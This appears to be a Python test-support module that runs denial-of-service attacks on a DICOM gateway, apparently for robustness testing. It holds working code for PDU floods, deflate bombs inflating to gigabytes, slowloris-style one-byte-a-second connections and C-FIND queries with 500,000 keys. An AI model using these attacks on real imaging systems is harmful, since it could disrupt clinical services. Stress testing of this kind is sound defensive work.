"""Attacks inside an association: too fine, too large, too slow, without end."""

from __future__ import annotations

import asyncio
import itertools
import random
import struct
import zlib
from collections.abc import Iterator
from contextlib import suppress

from tests.support.attacks.line import (
    CT,
    DEFLATED_ID,
    ECHO_ID,
    EXPLICIT_ID,
    FIND_ID,
    GET_ID,
    IMPLICIT_ID,
    MAX_PDU_BYTES,
    MOVE_ID,
    STUDY_FIND,
    STUDY_GET,
    STUDY_MOVE,
    VERIFICATION,
    Line,
    Target,
)
from tests.support.load.wire import C_ECHO_RQ, C_STORE_RQ, COMMAND, LAST, NO_DATA_SET, P_DATA, command_set, p_data

C_FIND_RQ, C_GET_RQ, C_MOVE_RQ = 0x0020, 0x0010, 0x0021
_numbers = itertools.count(random.SystemRandom().randrange(10**12))


def _us(value: int) -> bytes:
    return struct.pack("<H", value)


def _even(text: str) -> bytes:
    return text.encode() + b"\0" * (len(text) % 2)


def new_uid() -> str:
    return f"2.25.9{next(_numbers)}"


def store_command(uid: str, message_id: int = 1) -> bytes:
    """The command set of a C-STORE-RQ."""
    return command_set(
        [
            (0x0002, _even(CT)),
            (0x0100, _us(C_STORE_RQ)),
            (0x0110, _us(message_id)),
            (0x0700, _us(0)),
            (0x0800, _us(0)),
            (0x1000, _even(uid)),
        ]
    )


def query_command(kind: int, sop_class_uid: str, *, has_message_id: bool = True) -> bytes:
    """The command set of a C-FIND-, C-GET- or C-MOVE-RQ."""
    elements = [(0x0002, _even(sop_class_uid)), (0x0100, _us(kind))]
    if has_message_id:
        elements.append((0x0110, _us(1)))
    if kind == C_MOVE_RQ:
        elements.append((0x0600, b"EVIL"))
    return command_set([*elements, (0x0700, _us(0)), (0x0800, _us(0))])


def element(group: int, number: int, vr: bytes, value: bytes) -> bytes:
    """An element in Explicit VR Little Endian."""
    if vr in (b"OB", b"OW", b"UN"):
        return struct.pack("<HH2s2xI", group, number, vr, len(value)) + value
    return struct.pack("<HH2sH", group, number, vr, len(value)) + value


def facts(uid: str) -> bytes:
    """The first elements of an object, in Explicit VR Little Endian."""
    texts = [
        (0x0008, 0x0016, b"UI", _even(CT)),
        (0x0008, 0x0018, b"UI", _even(uid)),
        (0x0008, 0x0060, b"CS", b"CT"),
        (0x0010, 0x0010, b"PN", b"Evil^One"),
        (0x0010, 0x0020, b"LO", b"EVIL-1"),
        (0x0020, 0x000D, b"UI", b"1.2.3.4\0"),
        (0x0020, 0x000E, b"UI", b"1.2.3.4.5\0"),
    ]
    return b"".join(element(*each) for each in texts)


async def send_object(line: Line, context_id: int, uid: str, pieces: Iterator[bytes]) -> int:
    """A C-STORE; the status of its response, -1 when there was none."""
    await line.send(p_data(context_id, COMMAND | LAST, store_command(uid)))
    rest = bytearray()
    for piece in pieces:
        rest += piece
        while len(rest) > MAX_PDU_BYTES - 6:
            await line.send(p_data(context_id, 0, bytes(rest[: MAX_PDU_BYTES - 6])))
            del rest[: MAX_PDU_BYTES - 6]
    await line.send(p_data(context_id, LAST, bytes(rest)))
    return status_of(await line.pdu())


def status_of(pdu: bytes) -> int:
    """(0000,0900) of a response in one PDU, -1 without."""
    at = pdu.find(struct.pack("<HHI", 0, 0x0900, 2))
    return -1 if at < 0 else int(struct.unpack_from("<H", pdu, at + 8)[0])


# --- fine-grained ----------------------------------------------------------------------------------------------------


async def _flood(target: Target, first: bytes, block: bytes) -> None:
    while True:
        with suppress(OSError):
            async with await target.associate() as line:
                line.is_listening = False
                if first:
                    await line.send(first)
                while True:
                    await line.send(block)
        target.counts["connections lost"] += 1
        await asyncio.sleep(0.1)


async def _floods(target: Target, first: bytes, block: bytes) -> None:
    await asyncio.gather(*(_flood(target, first, block) for _ in range(target.many(1))))


def _pdus(item: bytes) -> bytes:
    body = item * ((MAX_PDU_BYTES - 6) // len(item))
    return (struct.pack(">BxI", P_DATA, len(body)) + body) * 4


async def empty_pdvs(target: Target) -> None:
    """PDUs full of presentation data values without a byte, on one association, as fast as they are read."""
    await _floods(target, b"", _pdus(struct.pack(">IBB", 2, IMPLICIT_ID, COMMAND)))


async def one_byte_pdvs(target: Target) -> None:
    """A data set in presentation data values of one byte each."""
    first = p_data(IMPLICIT_ID, COMMAND | LAST, store_command(new_uid()))
    await _floods(target, first, _pdus(struct.pack(">IBBB", 3, IMPLICIT_ID, 0, 0)))


async def pipelined_echo(target: Target) -> None:
    """C-ECHO requests, none of which waits for the answer to the one before."""
    command = command_set(
        [(0x0002, _even(VERIFICATION)), (0x0100, _us(C_ECHO_RQ)), (0x0110, _us(1)), (0x0800, _us(NO_DATA_SET))]
    )
    await _floods(target, b"", p_data(ECHO_ID, COMMAND | LAST, command) * 2000)


def tiny(count: int) -> Iterator[bytes]:
    """Elements without a value, 8 bytes each in either VR encoding's short form, in ascending order of tags."""
    done = 0
    for group in range(0x0029, 0xFFFF, 2):
        number = min(0xF000, count - done)
        if number <= 0:
            return
        yield b"".join(struct.pack("<HH2sH", group, each + 0x0100, b"LO", 0) for each in range(number))
        done += number


async def _tiny_elements(target: Target, count: int) -> None:
    while True:
        with suppress(OSError):
            async with await target.associate() as line:
                uid = new_uid()
                pieces = itertools.chain([facts(uid)], tiny(target.many(count)))
                status = await send_object(line, EXPLICIT_ID, uid, pieces)
                target.counts[f"status {status:04X}"] += 1
        await asyncio.sleep(0.1)


async def tiny_elements(target: Target) -> None:
    """Objects of 3 million elements without a value (24 MB), one after the other."""
    await _tiny_elements(target, 3_000_000)


async def more_tiny_elements(target: Target) -> None:
    """Objects of 12 million elements without a value (96 MB), one after the other."""
    await _tiny_elements(target, 12_000_000)


BLOCK_BYTES = 16 * 1024 * 1024


def bomb(uid: str, size_bytes: int) -> bytes:
    """An object that is deflated a thousandfold: `size_bytes` of zeros in one element."""
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    blocks = size_bytes // BLOCK_BYTES
    head = facts(uid) + struct.pack("<HH2s2xI", 0x7FE0, 0x0010, b"OB", blocks * BLOCK_BYTES)
    start = press.compress(head) + press.flush(zlib.Z_FULL_FLUSH)
    block = press.compress(bytes(BLOCK_BYTES)) + press.flush(zlib.Z_FULL_FLUSH)  # refers to nothing before it
    return start + block * blocks + press.flush()


async def deflate_bombs(target: Target) -> None:
    """Deflated objects that inflate to 0.3, 1 and 2 GB, four at a time."""

    async def one(number: int) -> None:
        for size_mb in itertools.islice(itertools.cycle((300, 1000, 2000)), number, None):
            with suppress(OSError):
                async with await target.associate() as line:
                    uid = new_uid()
                    data = bomb(uid, min(target.many(size_mb * 1_000_000), 0xFFFFFFFE))
                    status = await send_object(line, DEFLATED_ID, uid, iter([data]))
                    target.counts[f"status {status:04X}"] += 1
            await asyncio.sleep(0.1)

    await asyncio.gather(*(one(number) for number in range(4)))


def fine_bomb(uid: str, count: int) -> bytes:
    """A deflated object of `count` elements without a value."""
    press = zlib.compressobj(6, zlib.DEFLATED, -15)
    pieces = [press.compress(facts(uid)), *(press.compress(piece) for piece in tiny(count))]
    return b"".join(pieces) + press.flush()


async def fine_deflate_bombs(target: Target) -> None:
    """Deflated objects of 3 million elements without a value."""
    while True:
        with suppress(OSError):
            async with await target.associate() as line:
                uid = new_uid()
                data = await asyncio.to_thread(fine_bomb, uid, target.many(3_000_000))
                status = await send_object(line, DEFLATED_ID, uid, iter([data]))
                target.counts[f"status {status:04X}"] += 1
        await asyncio.sleep(0.1)


# --- slow and endless ------------------------------------------------------------------------------------------------


async def _slowly(target: Target, host: str, title: str, *, is_before_association: bool) -> None:
    while True:
        with suppress(OSError):
            if is_before_association:
                line = await target.connect(host)
                await line.send(struct.pack(">BxI", 1, 10_000))
            else:
                line = await target.associate(title, host)
                await line.send(p_data(IMPLICIT_ID, COMMAND | LAST, store_command(new_uid())))
                await line.send(struct.pack(">BxIIBB", P_DATA, 100_000, 99_996, IMPLICIT_ID, 0))
            line.is_listening = False
            target.lines.add(line)
            while True:
                await line.send(b"\0")
                await asyncio.sleep(1.0)
        await asyncio.sleep(0.5)


async def slow_pdus(target: Target) -> None:
    """One byte a second inside a PDU, 64 in a data set and 64 in an association request."""
    await asyncio.gather(
        *(
            _slowly(target, f"127.0.2.{number % 8 + 1}", f"SLOW{number}", is_before_association=number % 2 == 0)
            for number in range(target.many(128))
        )
    )


async def bytes_after_abort(target: Target) -> None:
    """A PDU that makes the gateway abort, and bytes without end after it."""
    block = random.Random(1).randbytes(1 << 20)

    async def one() -> None:
        while True:
            with suppress(OSError):
                async with await target.associate() as line:
                    line.is_listening = False
                    await line.send(b"\xff\0\xff\xff\xff\xff")
                    while True:
                        await line.send(block)
                        target.counts["bytes after the abort"] += len(block)
            await asyncio.sleep(0.2)

    await asyncio.gather(*(one() for _ in range(target.many(1))))


# --- queries ---------------------------------------------------------------------------------------------------------


def _keys(count: int) -> bytes:
    """An identifier in Implicit VR Little Endian: so many keys that ask for everything."""
    level = struct.pack("<HHI", 0x0008, 0x0052, 6) + b"STUDY "
    rest = b"".join(
        struct.pack("<HHI", 0x0029 + 2 * (number // 0xF000), 0x0100 + number % 0xF000, 0) for number in range(count)
    )
    return level + struct.pack("<HHI", 0x0020, 0x000D, 0) + rest


async def many_keys(target: Target) -> None:
    """C-FIND with 500 000 keys, one after the other."""
    keys = _keys(target.many(500_000))
    size = MAX_PDU_BYTES - 6
    request = p_data(FIND_ID, COMMAND | LAST, query_command(C_FIND_RQ, STUDY_FIND))
    for start in range(0, len(keys), size):
        request += p_data(FIND_ID, LAST if start + size >= len(keys) else 0, keys[start : start + size])
    while True:
        with suppress(OSError):
            async with await target.associate() as line:
                await line.send(request)
                answer = await line.pdu()
                target.counts[f"status {status_of(answer):04X}" if answer[:1] == b"\4" else "aborted"] += 1
        await asyncio.sleep(0.05)


async def no_message_id(target: Target) -> None:
    """C-FIND, C-GET and C-MOVE without (0000,0110) Message ID."""
    requests = [
        (FIND_ID, query_command(C_FIND_RQ, STUDY_FIND, has_message_id=False)),
        (GET_ID, query_command(C_GET_RQ, STUDY_GET, has_message_id=False)),
        (MOVE_ID, query_command(C_MOVE_RQ, STUDY_MOVE, has_message_id=False)),
    ]
    for context_id, command in itertools.islice(itertools.cycle(requests), target.many(12)):
        with suppress(OSError):
            async with await target.associate() as line:
                await line.send(p_data(context_id, COMMAND | LAST, command) + p_data(context_id, LAST, _keys(0)))
                answer = await line.pdu()
                target.counts[f"status {status_of(answer):04X}" if answer[:1] == b"\4" else "aborted"] += 1
        await asyncio.sleep(0.1)
